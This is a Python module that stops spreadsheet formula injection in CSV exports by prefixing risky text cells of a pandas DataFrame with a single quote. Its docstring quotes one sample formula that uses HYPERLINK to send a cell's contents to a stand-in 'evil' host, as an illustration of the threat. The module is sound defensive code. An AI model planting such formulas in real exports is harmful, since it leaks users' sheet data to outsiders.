"""CSV export that a spreadsheet cannot turn into formulas (OWASP "CSV injection").

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as
a formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("https://evil/?"&A1, "…")``
leaks the sheet). Model answers, prompts and titles are untrusted text, so
:func:`neutralize` prefixes such cells with a single quote, as OWASP advises: the sheet shows
the text as typed. Numbers stay numbers; only text cells change.
"""

from __future__ import annotations

from typing import Any

__all__ = ["TRIGGERS", "neutralize", "neutralize_cell"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""


def neutralize_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text starting with one of :data:`TRIGGERS`."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def neutralize(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell neutralized."""
    out = frame.copy()
    for column in out.columns:
        dtype = out[column].dtype
        if str(dtype).startswith(("object", "string", "str")):
            out[column] = out[column].map(neutralize_cell, na_action="ignore")
    return out
